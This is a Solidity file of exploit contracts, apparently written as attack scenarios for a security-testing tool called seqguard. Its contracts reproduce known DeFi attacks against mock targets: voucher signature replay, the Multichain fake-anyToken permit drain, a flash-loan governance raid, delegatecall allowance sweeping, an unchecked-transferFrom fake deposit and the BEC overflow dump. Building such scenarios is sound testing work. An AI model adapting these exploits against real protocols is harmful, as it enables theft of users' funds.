// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20, IFlashBorrower} from "./Interfaces.sol";
import {Pair} from "./Amm.sol";
import {TokenVault} from "./TokenVault.sol";
import {swapThrough} from "./Attackers.sol";
import {PayoutDesk} from "./Signatures.sol";
import {AnyRouter, IAnyToken} from "./Bridges.sol";
import {SiloGovernor} from "./Governance.sol";
import {StakedShares, OverflowToken} from "./LowLevelBugs.sol";

/// @title VoucherReplayer: redeems one PayoutDesk voucher until the desk is empty.
/// @notice Written for seqguard's scenarios: the attacker was paid one genuine voucher
/// and replays it; reverts unless the owner ends up with more than the voucher was for.
contract VoucherReplayer {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function run(PayoutDesk desk, uint256 amount, bytes calldata sig) external {
        IERC20 token = desk.token();
        uint256 before = token.balanceOf(owner);
        while (token.balanceOf(address(desk)) >= amount) {
            desk.redeem(owner, amount, sig);
        }
        require(token.balanceOf(owner) > before + amount, "VoucherReplayer: no profit");
    }
}

/// @title FakeAnyToken: an "anyToken" whose underlying is the victim's WETH-like token.
/// @notice Written for seqguard's scenarios (the Multichain permit attack): AnyRouter
/// sends the underlying it pulls from `victim` to this contract, whose `depositVault` and
/// `burn` do nothing; the tokens are then forwarded to the attacker.
contract FakeAnyToken is IAnyToken {
    address public immutable underlying;
    address private immutable owner;

    constructor(address underlying_) {
        (underlying, owner) = (underlying_, msg.sender);
    }

    function depositVault(uint256 amount, address) external pure returns (uint256) {
        return amount;
    }

    function burn(address, uint256) external pure returns (bool) {
        return true;
    }

    function run(AnyRouter router, address victim, uint256 amount) external {
        // no signature at all: the "permit" lands in the underlying's fallback
        router.anySwapOutUnderlyingWithPermit(victim, this, owner, amount, block.timestamp, 0, 0, 0, 1);
        uint256 got = IERC20(underlying).balanceOf(address(this));
        require(got >= amount, "FakeAnyToken: nothing pulled");
        require(IERC20(underlying).transfer(owner, got));
    }
}

/// @title GovernanceRaid: flash-borrows stake, votes its own emergency proposal through.
/// @notice Written for seqguard's scenarios (the Beanstalk pattern): the proposal, made a
/// block or more earlier with a little stake of its own, sends the DAO's treasury here.
/// In one transaction: borrow, stake, vote, emergencyCommit, unstake, repay, keep the loot.
contract GovernanceRaid is IFlashBorrower {
    SiloGovernor public immutable governor;
    TokenVault public immutable lender;
    address private immutable owner;
    uint256 private proposalId;

    constructor(SiloGovernor governor_, TokenVault lender_) {
        (governor, lender, owner) = (governor_, lender_, msg.sender);
    }

    /// Set-up: stake a little and make the proposal (the real attacker did this a day before).
    function prepare(uint256 stake, address target, bytes calldata data) external returns (uint256 id) {
        require(msg.sender == owner, "GovernanceRaid: not the owner");
        IERC20 token = governor.stakeToken();
        token.approve(address(governor), type(uint256).max);
        governor.deposit(stake);
        id = governor.propose(target, data);
        proposalId = id;
    }

    function run(uint256 loan, IERC20 loot) external {
        require(msg.sender == owner, "GovernanceRaid: not the owner");
        lender.flashLoan(loan, this, "");
        uint256 got = loot.balanceOf(address(this));
        require(got > 0, "GovernanceRaid: no loot");
        require(loot.transfer(owner, got));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external {
        require(msg.sender == address(lender), "GovernanceRaid: not the lender");
        governor.deposit(amount);
        governor.vote(proposalId);
        governor.emergencyCommit(proposalId);
        governor.withdraw(amount);
        require(governor.stakeToken().transfer(address(lender), amount + fee));
    }
}

interface IAllowanceView {
    function allowance(address owner, address spender) external view returns (uint256);
}

/// @title ApprovalSweeper: "handler" code that, run by delegatecall inside a proxy, spends
/// every allowance the given users gave that proxy.
/// @notice Written for seqguard's scenarios (the Furucombo pattern). `address(this)` is the
/// proxy when this runs, so the allowances are the proxy's.
contract ApprovalSweeper {
    function sweep(IERC20 token, address[] calldata victims, address to) external {
        uint256 total;
        for (uint256 i = 0; i < victims.length; i++) {
            uint256 allowed = IAllowanceView(address(token)).allowance(victims[i], address(this));
            uint256 held = token.balanceOf(victims[i]);
            uint256 amount = allowed < held ? allowed : held;
            if (amount > 0) {
                require(token.transferFrom(victims[i], to, amount));
                total += amount;
            }
        }
        require(total > 0, "ApprovalSweeper: nothing taken");
    }
}

/// @title FakeDeposit: mints StakedShares for a deposit that never arrives, then withdraws.
/// @notice Written for seqguard's scenarios (the Force DAO pattern): holds none of the
/// token; the vault's unchecked `transferFrom` returns false and the shares are minted anyway.
contract FakeDeposit {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function run(StakedShares vault, uint256 amount) external {
        IERC20 token = vault.token();
        vault.deposit(amount);
        vault.withdraw(vault.balanceOf(address(this)));
        uint256 got = token.balanceOf(address(this));
        require(got > 0, "FakeDeposit: no profit");
        require(token.transfer(owner, got));
    }
}

/// @title OverflowDump: credits itself 2**255 tokens through the batchTransfer overflow
/// and sells some into the token's pool.
/// @notice Written for seqguard's scenarios (the BEC pattern); reverts unless the owner
/// receives the pool's other token.
contract OverflowDump {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function run(OverflowToken token, Pair pair, uint256 sell) external {
        address[] memory receivers = new address[](2);
        (receivers[0], receivers[1]) = (address(this), owner);
        token.batchTransfer(receivers, 2 ** 255);
        IERC20 other = IERC20(pair.token0() == address(token) ? pair.token1() : pair.token0());
        uint256 before = other.balanceOf(owner);
        swapThrough(pair, address(token), sell, owner);
        require(other.balanceOf(owner) > before, "OverflowDump: no profit");
    }
}
